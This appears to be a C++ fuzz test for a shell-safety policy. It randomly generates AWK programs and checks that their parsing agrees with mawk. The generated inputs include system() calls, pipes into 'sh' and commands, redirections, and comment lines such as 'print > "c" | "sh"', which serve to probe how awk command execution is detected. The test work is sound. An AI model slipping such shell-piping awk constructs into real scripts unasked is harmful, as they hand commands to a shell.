// strings holding '>', '|', '#', '/' and quotes, comments and line continuations.
class AwkGenerator {
 public:
  explicit AwkGenerator(uint32_t seed) : rng_(seed) {}

  std::string Program() {
    std::string p;
    for (int n = Pick(2) + 1; n > 0; --n) {
      switch (Pick(4)) {
        case 0:
          p += "BEGIN { " + Statements(1) + " }";
          break;
        case 1:
          p += Expr(1) + " { " + Statements(1) + " }";
          break;
        case 2:
          p += "{ " + Statements(1) + " }";
          break;
        default:
          p += Regex();
      }
      p += One({"\n", "\n", " ", "\n# } print > \"c\" | \"sh\"\n"});
    }
    return p;
  }

 private:
  int Pick(int n) { return std::uniform_int_distribution<int>(0, n - 1)(rng_); }
  std::string One(std::initializer_list<const char*> list) {
    return *(list.begin() + Pick(static_cast<int>(list.size())));
  }

  std::string Regex() {
    return One({"/x/", "/>/", "/a|b/", "/\\//", "/\"/", "/#/", "/[>|]/", "/[]x]/", "/a\\/b>c/"});
  }
  std::string String() {
    return One({"\"a\"", "\"cmd\"", "\"f\"", "\"/\"", "\"\\\"\"", "\">\"", "\"|\"", "\"#\"",
                "\"x > y\"", "\"/dev/stderr\"", "\"echo \\\"hi\\\"\""});
  }
  std::string Primary(int depth) {
    switch (Pick(depth > 0 ? 12 : 8)) {
      case 0:
      case 1:
        return String();
      case 2:
        return One({"1", "2", "0.5", "1e3"});
      case 3:
        return One({"x", "y", "cmd", "NF", "NR"});
      case 4:
        return One({"$1", "$NF", "$0", "$(1)"});
      case 5:
        return Regex();
      case 6:
        return "a[" + One({"1", "x", "\"k\""}) + "]";
      case 7:
        return One({"x++", "y--", "++x"});
      case 8:
        return "(" + Expr(depth - 1) + ")";
      case 9:
        return "length(" + Expr(depth - 1) + ")";
      case 10:
        return "substr(" + Expr(depth - 1) + ", 1)";
      default:
        return "(" + Getline(depth - 1) + ")";
    }
  }
  std::string Expr(int depth) {
    if (depth <= 0 || Pick(3) == 0) return Primary(depth);
    switch (Pick(6)) {
      case 0:
        return Primary(depth) + " " + Primary(depth);  // concatenation
      case 1:
        return "!" + Primary(depth);
      case 2:
        return Expr(depth - 1) + " ? " + Primary(depth - 1) + " : " + Primary(depth - 1);
      case 3:
        return Primary(depth) + " ~ " + Regex();
      default:
        return Primary(depth) +
               One({" + ", " - ", " * ", " / ", " % ", " > ", " < ", " >= ", " == ", " != ", " && ",
                    " || ", " in "}) +
               Primary(depth);
    }
  }
  std::string Getline(int depth) {
    std::string var = One({"", " line", " $2", " a[1]"});
    switch (Pick(4)) {
      case 0:
        return Primary(depth) + " | getline" + var;
      case 1:
        return "getline" + var + " < " + Primary(depth);
      case 2:
        return String() + " | getline" + var;
      default:
        return "getline" + var;
    }
  }
  std::string Redirect(int depth) {
    switch (Pick(5)) {
      case 0:
        return "";
      case 1:
        return " > " + Expr(depth);
      case 2:
        return " >> " + Primary(depth);
      case 3:
        return " | " + Expr(depth);
      default:
        return " > " + String();
    }
  }
  std::string Statement(int depth) {
    switch (Pick(depth > 0 ? 11 : 8)) {
      case 0:
      case 1:
        return "print " + ExprList(depth) + Redirect(depth);
      case 2:
        return "printf " + String() + ", " + ExprList(depth) + Redirect(depth);
      case 3:
        return "printf(" + String() + ", " + ExprList(depth) + ")" + Redirect(depth);
      case 4:
        return "system(" + Expr(depth) + ")";
      case 5:
        return Getline(depth);
      case 6:
        return One({"x", "y", "a[1]", "$3"}) + " = " + Expr(depth);
      case 7:
        return "close(" + Primary(depth) + ")";
      case 8:
        return "if (" + Expr(depth - 1) + ")" + One({" ", "\n"}) + Statement(depth - 1) +
               (Pick(2) ? "; else " + Statement(depth - 1) : "");
      case 9:
        return "while ((" + Getline(depth - 1) + ") > 0) " + Statement(depth - 1);
      default:
        return "{ " + Statements(depth - 1) + " }";
    }
  }
  std::string ExprList(int depth) {
    std::string list = Expr(depth);
    for (int n = Pick(3); n > 0; --n) {
      list += One({", ", ",\n", ", \\\n"}) + Expr(depth);
    }
    return Pick(4) == 0 ? "(" + list + ")" : list;
  }
  std::string Statements(int depth) {
    std::string s = Statement(depth);
    for (int n = Pick(2); n > 0; --n) {
      s += One({"; ", "\n", ";\n", " # > \"f\" | \"sh\"\n"}) + Statement(depth);
    }
    return s;
  }

  std::mt19937 rng_;
};

TEST(AwkAgreement, GeneratedProgramsAgreeWithMawk) {
  if (!HaveMawk()) GTEST_SKIP() << "mawk is not installed";
  AwkGenerator generator(977);
  for (int n = 0; n < 2500; ++n) {
    ExpectAgreesWithMawk(generator.Program());
    if (HasFailure()) return;
  }
}

}  // namespace
}  // namespace safesh::policy
